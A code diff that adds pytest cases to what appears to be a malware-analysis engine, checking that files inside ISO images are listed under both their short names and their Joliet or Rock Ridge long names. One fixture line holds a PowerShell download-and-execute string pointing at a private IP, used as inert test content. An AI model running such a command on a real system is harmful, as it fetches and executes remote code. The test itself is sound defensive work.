@@ -578,6 +578,62 @@ class TestISO:
         descs = {f["name"]: f["description"] for f in file_rows}
         assert descs["RUN.PS1"] == "Unidentified file"
 
+    def test_joliet_long_names(self):
+        from kgmwcp.engine import iso9660
+
+        ps1 = b"iex 'http://10.5.5.5/iso-drop'"
+        image = iso9660.build_iso(
+            {"run.ps1": ps1, "readme.txt": b"hello iso"},
+            joliet={"run.ps1": "Run Stage Two Payload.ps1",
+                    "readme.txt": "Read Me First.txt"})
+        reader = iso9660.IsoReader(image)
+        assert reader.has_joliet() and not reader.has_rock_ridge()
+        jfiles = {name: data for _, name, data in reader.walk("joliet")}
+        assert jfiles == {"Run Stage Two Payload.ps1": ps1,
+                          "Read Me First.txt": b"hello iso"}
+        # primary view unchanged
+        assert {n for _, n, _ in reader.walk()} == {"RUN.PS1", "README.TXT"}
+
+        # rule walks both views: each member surfaces under BOTH its 8.3
+        # and its Joliet name.  Note the Joliet twin stays Unidentified
+        # even though its long name ends in .ps1: the identify cache is
+        # keyed (parser, md5) in the reference too (dispatcher.py:183-199),
+        # so the short-name probe's negative result is reused for the
+        # identical-content twin — bug-for-bug parity.
+        result = run(image, name="image.iso")
+        file_rows = [json.loads(o) for _, p, o in result.triples if p == "file"]
+        descs = {f["name"]: f["description"] for f in file_rows}
+        assert descs["RUN.PS1"] == "Unidentified file"
+        assert descs["Run Stage Two Payload.ps1"] == "Unidentified file"
+        assert len(file_rows) == 4  # two members x two name views
+
+    def test_rock_ridge_posix_names(self):
+        from kgmwcp.engine import iso9660
+
+        data = b"#!/bin/sh\necho hi\n"
+        image = iso9660.build_iso(
+            {"script.sh": data},
+            rock_ridge={"script.sh": "install-stage2.sh"})
+        reader = iso9660.IsoReader(image)
+        assert reader.has_rock_ridge() and not reader.has_joliet()
+        assert {n for _, n, _ in reader.walk("rr")} == {"install-stage2.sh"}
+        assert {n for _, n, _ in reader.walk()} == {"SCRIPT.SH"}
+
+        result = run(image, name="image.iso")
+        names = sorted(json.loads(o)["name"]
+                       for _, p, o in result.triples if p == "file")
+        assert names == ["SCRIPT.SH", "install-stage2.sh"]
+
+    def test_identical_name_views_dedupe(self):
+        from kgmwcp.engine import iso9660
+
+        # joliet name equal to the primary name -> one file element only
+        image = iso9660.build_iso({"A.TXT": b"same"}, joliet={"A.TXT": "A.TXT"})
+        result = run(image, name="image.iso")
+        names = [json.loads(o)["name"]
+                 for _, p, o in result.triples if p == "file"]
+        assert names == ["A.TXT"]
+
 
 class TestQuarantineSubSDK:
     def test_blowfish_chunked_extraction(self):
